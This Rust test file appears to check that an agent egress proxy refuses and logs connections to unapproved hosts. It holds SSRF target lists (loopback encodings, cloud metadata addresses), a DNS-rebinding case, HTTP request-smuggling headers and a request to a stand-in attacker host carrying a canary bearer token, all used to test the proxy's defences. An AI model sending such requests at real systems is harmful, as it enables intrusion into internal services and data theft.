//! What is not approved does not pass, is told and written down.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpSocket;

use super::servers::Server;
use super::{Names, Stage, get, read_all, taken_apart};
use crate::EgressLimits;

/// An address outside that nobody was given, so that nothing is ever reached there.
const NOWHERE: &str = "3ffe::1";

fn impatient() -> EgressLimits {
    EgressLimits { connect: Duration::from_millis(300), ..EgressLimits::default() }
}

fn connect(target: &str) -> String {
    format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
}

#[tokio::test]
async fn another_host_or_port_is_refused_told_and_written_down() {
    let mut server = Server::http("\r\n\r\n", "").await;
    let port = server.port();
    let other = port.wrapping_add(1).max(1);
    let names = Names::answering(&[&[NOWHERE]]);
    let allowed = [&format!("127.0.0.1:{other}"), "api.example"];
    let stage = Stage::with(&allowed, names.clone(), impatient()).await;
    let target = format!("127.0.0.1:{port}");
    for request in [connect(&target), get(&format!("http://{target}/"), &target)] {
        let (status, error) = taken_apart(&stage.ask(request).await);
        assert_eq!((status, error["code"].as_str()), (403, Some("permission.denied")));
        let message = error["message"].as_str().expect("a message");
        assert!(message.contains(&format!("network:egress:127.0.0.1:{port}")), "{message}");
    }
    for target in ["example.com:443", "xapi.example:443", "api.example.evil:443", "x.api.example:1"]
    {
        let (status, _) = taken_apart(&stage.ask(connect(target)).await);
        assert_eq!(status, 403, "{target}");
    }
    let denied = stage.denied(6).await;
    let first = &denied[0];
    assert_eq!((first.actor.as_str(), first.subject.as_str()), ("provider:sneaky", "agent:sneaky"));
    assert_eq!(first.facts["host"], "127.0.0.1");
    assert_eq!(first.facts["port"], port);
    assert_eq!(first.facts["permission"], format!("network:egress:127.0.0.1:{port}"));
    assert_eq!(denied[2].facts["host"], "example.com");
    assert_eq!(denied.len(), 6);
    // Not even a question about a name leaves for a host that is not approved.
    assert!(names.asked().is_empty());
    assert!(server.saw_nobody());
    assert_eq!(stage.door().bytes(), (0, 0));
}

#[tokio::test]
async fn an_approved_name_does_not_lead_inside() {
    let mut server = Server::http("\r\n\r\n", "").await;
    let port = server.port();
    for inside in ["127.0.0.1", "::1", "::ffff:127.0.0.1", "10.0.0.1", "169.254.169.254", "fd00::1"]
    {
        let names = Names::answering(&[&[inside]]);
        let stage = Stage::with(&["api.example", "*.example"], names, impatient()).await;
        let (status, error) =
            taken_apart(&stage.ask(connect(&format!("API.example.:{port}"))).await);
        assert_eq!((status, error["code"].as_str()), (403, Some("permission.denied")), "{inside}");
        let denied = stage.denied(1).await;
        assert_eq!(denied[0].facts["host"], "api.example");
        assert_eq!(denied[0].facts["reason"], "inside_address");
    }
    assert!(server.saw_nobody());
}

#[tokio::test]
async fn t032_an_approved_artifact_store_inside_is_reached_at_its_host_and_port_alone() {
    let server = Server::http("\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").await;
    let mut other = Server::http("\r\n\r\n", "").await;
    let (port, other_port) = (server.port(), other.port());
    let inside = || Names::answering(&[&["127.0.0.1"], &["127.0.0.1"], &["127.0.0.1"]]);
    let origin = format!("http://store.example:{port}");
    let stage = Stage::beside(Some(&origin), &["*.example"], inside(), impatient()).await;
    let url = format!("http://store.example:{port}/x");
    let answer = stage.ask(get(&url, &format!("store.example:{port}"))).await;
    assert!(answer.ends_with("ok"), "{answer}");
    for target in [format!("store.example:{other_port}"), format!("other.example:{port}")] {
        let (status, error) = taken_apart(&stage.ask(connect(&target)).await);
        assert_eq!((status, error["code"].as_str()), (403, Some("permission.denied")), "{target}");
    }
    // Whoever was not approved for it does not reach it either, nor by its address.
    let stage = Stage::beside(Some(&origin), &["api.example"], inside(), impatient()).await;
    for target in [format!("store.example:{port}"), format!("127.0.0.1:{port}")] {
        assert_eq!(taken_apart(&stage.ask(connect(&target)).await).0, 403, "{target}");
    }
    let origin = format!("http://127.0.0.1:{port}");
    let stage = Stage::beside(Some(&origin), &["*"], inside(), impatient()).await;
    assert_eq!(taken_apart(&stage.ask(connect(&format!("127.0.0.1:{port}"))).await).0, 403);
    let exact = format!("127.0.0.1:{port}");
    let stage = Stage::beside(Some(&origin), &[&exact], inside(), impatient()).await;
    drop(stage.tunnel(&exact).await);
    assert_eq!(taken_apart(&stage.ask(connect(&format!("127.0.0.1:{other_port}"))).await).0, 403);
    assert!(other.saw_nobody());
}

#[tokio::test]
async fn any_host_does_not_mean_this_machine() {
    let mut server = Server::http("\r\n\r\n", "").await;
    let port = server.port();
    let stage = Stage::with(&["*"], Names::answering(&[&["127.0.0.1"]]), impatient()).await;
    for host in [
        "localhost",
        "LOCALHOST",
        "localhost.",
        "x.localhost",
        "127.0.0.1",
        "127.0.0.2",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "169.254.169.254",
        "[fd00:ec2::254]",
    ] {
        let target = format!("{host}:{port}");
        for request in [connect(&target), get(&format!("http://{target}/"), &target)] {
            let (status, _) = taken_apart(&stage.ask(request).await);
            assert_eq!(status, 403, "{host}");
        }
    }
    for host in ["127.1", "2130706433", "0x7f000001", "0177.0.0.1"] {
        let (status, _) = taken_apart(&stage.ask(connect(&format!("{host}:{port}"))).await);
        assert_eq!(status, 400, "{host}");
    }
    assert!(server.saw_nobody());
}

#[tokio::test]
async fn a_name_that_points_elsewhere_the_second_time_is_not_followed() {
    let mut server = Server::http("\r\n\r\n", "").await;
    let names = Names::answering(&[&[NOWHERE], &["127.0.0.1"]]);
    let stage = Stage::with(&["api.example"], names.clone(), impatient()).await;
    let target = format!("api.example:{}", server.port());
    // What was checked is what is connected to, although the name now leads to this machine.
    let (status, error) = taken_apart(&stage.ask(connect(&target)).await);
    assert!([502, 504].contains(&status), "{status}: {error}");
    assert_eq!(error["code"], "egress.unreachable");
    assert_eq!(names.asked(), ["api.example"]);
    let (status, _) = taken_apart(&stage.ask(connect(&target)).await);
    assert_eq!(status, 403);
    assert_eq!(names.asked().len(), 2);
    assert!(server.saw_nobody());
}

#[tokio::test]
async fn of_several_addresses_only_those_outside_are_tried() {
    let mut server = Server::http("\r\n\r\n", "").await;
    let names = Names::answering(&[&["127.0.0.1", NOWHERE, "::1"]]);
    let stage = Stage::with(&["api.example"], names, impatient()).await;
    let answer = stage.ask(connect(&format!("api.example:{}", server.port()))).await;
    let (status, error) = taken_apart(&answer);
    assert!([502, 504].contains(&status), "{status}: {error}");
    assert!(server.saw_nobody());
}

#[tokio::test]
async fn what_cannot_be_found_or_reached_is_told_as_that() {
    // A port that is taken, so that no other test gets it, and at which nobody listens.
    let taken = TcpSocket::new_v4().expect("a socket");
    taken.bind("127.0.0.1:0".parse().expect("an address")).expect("binds");
    let unused = taken.local_addr().expect("bound");
    let stage = Stage::open(&["api.example", &unused.to_string()]).await;
    let (status, error) = taken_apart(&stage.ask(connect("api.example:443")).await);
    assert_eq!((status, error["code"].as_str()), (502, Some("egress.unreachable")));
    assert_eq!(error["message"], "The host api.example is not known.");
    let (status, error) = taken_apart(&stage.ask(connect(&unused.to_string())).await);
    assert_eq!((status, error["code"].as_str()), (502, Some("egress.unreachable")));
    assert!(stage.denied(0).await.is_empty());
}

#[tokio::test]
async fn a_server_that_does_not_speak_http_is_told_as_that() {
    let server = Server::http("\r\n\r\n", "SSH-2.0-x\r\n\r\n").await;
    let address = server.address.to_string();
    let stage = Stage::open(&[&address]).await;
    let (status, error) =
        taken_apart(&stage.ask(get(&format!("http://{address}/"), &address)).await);
    assert_eq!((status, error["code"].as_str()), (502, Some("egress.unreachable")));
}

#[tokio::test]
async fn what_could_be_read_in_two_ways_reaches_nobody() {
    let mut server = Server::http("\r\n\r\n", "").await;
    let address = server.address.to_string();
    let stage = Stage::open(&[&address]).await;
    let url = format!("http://{address}/");
    let smuggled = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n";
    for head in [
        format!("POST {url} HTTP/1.1\r\nHost: {address}\r\nHost: {address}"),
        format!("POST {url} HTTP/1.1\r\nHost: b.example"),
        format!(
            "POST {url} HTTP/1.1\r\nHost: {address}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked"
        ),
        format!("POST {url} HTTP/1.1\r\nHost: {address}\r\nContent-Length: 4\r\nContent-Length: 5"),
        format!("POST {url} HTTP/1.1\r\nHost: {address}\r\nTransfer-Encoding: chunked, x"),
        format!(
            "POST {url} HTTP/1.1\r\nHost: {address}\r\nConnection: content-length\r\nContent-Length: 4"
        ),
        format!("POST {url} HTTP/1.1\r\nHost: {address}\nX: y"),
        format!("POST {url} HTTP/1.1\r\nHost: {address}\r\n X: y"),
        format!("POST / HTTP/1.1\r\nHost: {address}"),
        format!("POST http://x@{address}/ HTTP/1.1\r\nHost: {address}"),
        format!("CONNECT {address} HTTP/1.1\r\nHost: {address}\r\nContent-Length: 4"),
        "\r\n".to_owned(),
        "hello".to_owned(),
        "\u{16}\u{3}\u{1}".to_owned(),
    ] {
        let (status, error) = taken_apart(&stage.ask(format!("{head}\r\n\r\n{smuggled}")).await);
        assert_eq!((status, error["code"].as_str()), (400, Some("request.invalid")), "{head}");
    }
    assert!(server.saw_nobody());
    assert_eq!(stage.door().bytes(), (0, 0));
}

#[tokio::test]
async fn r151_a_refusal_tells_nothing_of_what_was_sent_but_host_and_port() {
    const CANARY: &str = "canary9d2f";
    let stage = Stage::open(&["api.example"]).await;
    let mut stream = stage.dial().await;
    let request = format!(
        "POST http://evil.example/{CANARY}?{CANARY} HTTP/1.1\r\nHost: evil.example\r\n\
         Authorization: Bearer {CANARY}\r\nX-{CANARY}: 1\r\nContent-Length: 10\r\n\r\n{CANARY}"
    );
    stream.write_all(request.as_bytes()).await.expect("written");
    let answer = read_all(&mut stream).await;
    assert_eq!(taken_apart(&answer).0, 403);
    assert!(!answer.contains(CANARY), "{answer}");
    let userinfo =
        stage.ask(get(&format!("http://u:{CANARY}@evil.example/"), "evil.example")).await;
    assert!(!userinfo.contains(CANARY), "{userinfo}");
    let denied = stage.denied(1).await;
    let shown = format!("{denied:?}");
    assert!(!shown.contains(CANARY), "{shown}");
    let keys: Vec<&str> = denied[0].facts.keys().map(String::as_str).collect();
    assert_eq!(keys, ["error_code", "host", "permission", "port", "reason"]);
}

#[tokio::test]
async fn m047_a_host_of_the_machines_own_settings_is_reached_wherever_it_is_and_no_other() {
    let server = Server::http("\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").await;
    let port = server.port();
    let names = Names::answering(&[&["127.0.0.1"], &["127.0.0.1"]]);
    let mut stage = Stage::with(&["nobody.example"], names, impatient()).await;
    stage.door = None;
    let host = format!("registry.example:{port}");
    let allowed = vec![wharf_domain::permission::HostPattern::parse(&host).expect("a pattern")];
    let agent = wharf_vocab::ProviderId::new("packed").expect("an id");
    let socket = stage.socket();
    let door = wharf_ports::launcher::Egress::open_own(&stage.proxy, agent, socket, allowed).await;
    stage.door = Some(door.expect("opens"));
    let answer = stage.ask(get(&format!("http://{host}/x"), &host)).await;
    assert!(answer.ends_with("ok"), "{answer}");
    let other = format!("other.example:{port}");
    assert_eq!(taken_apart(&stage.ask(connect(&other)).await).0, 403);
}
